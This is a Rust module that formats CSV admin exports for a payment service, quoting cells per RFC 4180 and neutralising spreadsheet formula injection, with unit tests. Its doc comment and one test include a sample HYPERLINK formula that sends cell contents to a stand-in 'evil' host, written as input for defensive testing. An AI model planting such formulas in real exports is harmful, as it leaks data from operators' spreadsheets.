//! CSV text for the operator exports (`GET /api/v1/admin/exports/*.csv`).
//!
//! RFC 4180 quoting: a cell with a comma, a double quote, CR or LF is wrapped in double
//! quotes, quotes inside doubled. Lines end with CRLF. The file starts with a UTF-8 byte
//! order mark so that Excel reads Chinese text as UTF-8 rather than the local code page.
//!
//! **Formula injection** (CSV injection): spreadsheet programs run a cell that starts
//! with `=`, `+`, `-` or `@` as a formula (and tab / CR can hide such a start), so a
//! product name or refund reason like `=HYPERLINK("http://evil/?"&A1,"click")` would
//! act when an operator opens the export. Every text cell that starts with one of those
//! characters gets a leading apostrophe (`'=HYPERLINK(...)`), which spreadsheets show as
//! text. Numbers and amounts that fenpay itself writes (`-100` points) are not text
//! cells and stay numbers.

use api_types::Yuan;

/// The UTF-8 byte order mark (EF BB BF) that starts every export.
pub const BOM: &str = "\u{feff}";

/// The first characters that make a spreadsheet treat a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell: guarded against formula injection, then quoted when needed.
pub fn text(value: &str) -> String {
    let guarded = if value.starts_with(FORMULA_START) {
        format!("'{value}")
    } else {
        value.to_string()
    };
    quote(&guarded)
}

/// An optional text cell (empty when absent).
pub fn opt_text(value: Option<&str>) -> String {
    value.map(text).unwrap_or_default()
}

/// An integer cell (fen, points, seconds): plain digits with a leading `-` when negative.
pub fn int(value: i64) -> String {
    value.to_string()
}

/// Yuan from fen, exact to the fen with two decimals (`9900` -> `99.00`), never a float.
pub fn yuan(fen: i64) -> String {
    Yuan(fen).to_string()
}

/// `true` / `false`.
pub fn boolean(value: bool) -> String {
    if value { "true" } else { "false" }.to_string()
}

fn quote(value: &str) -> String {
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

/// One line of cells already made by the functions above, CRLF-terminated.
pub fn line(cells: &[String]) -> String {
    let mut out = cells.join(",");
    out.push_str("\r\n");
    out
}

/// The header line: column names are fixed ASCII, written as text cells.
pub fn header(names: &[&str]) -> String {
    line(&names.iter().map(|n| text(n)).collect::<Vec<_>>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_commas_quotes_and_newlines() {
        assert_eq!(text("plain"), "plain");
        assert_eq!(text("会员 月卡"), "会员 月卡");
        assert_eq!(text("a,b"), "\"a,b\"");
        assert_eq!(text("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(text("two\nlines"), "\"two\nlines\"");
        assert_eq!(text("cr\rhere"), "\"cr\rhere\"");
        assert_eq!(text(""), "");
        assert_eq!(opt_text(None), "");
        assert_eq!(
            line(&[text("x,y"), int(-3), yuan(1205)]),
            "\"x,y\",-3,12.05\r\n"
        );
        assert_eq!(
            header(&["order_no", "amount_fen"]),
            "order_no,amount_fen\r\n"
        );
    }

    #[test]
    fn guards_formula_starts() {
        assert_eq!(text("=1+1"), "'=1+1");
        assert_eq!(text("+86 123"), "'+86 123");
        assert_eq!(text("-2"), "'-2");
        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(text("\tx"), "'\tx");
        assert_eq!(text("\r=x"), "\"'\r=x\"");
        assert_eq!(
            text("=HYPERLINK(\"http://evil\",\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\""
        );
        // Not at the start: left alone.
        assert_eq!(text("a=b"), "a=b");
        // Our own numbers stay numbers.
        assert_eq!(int(-100), "-100");
        assert_eq!(yuan(-1), "-0.01");
    }

    #[test]
    fn amounts_are_exact_decimal_text() {
        assert_eq!(yuan(0), "0.00");
        assert_eq!(yuan(1), "0.01");
        assert_eq!(yuan(9900), "99.00");
        assert_eq!(yuan(123_456_789_012), "1234567890.12");
        assert_eq!(boolean(true), "true");
        assert_eq!(BOM.as_bytes(), [0xEF, 0xBB, 0xBF]);
    }
}
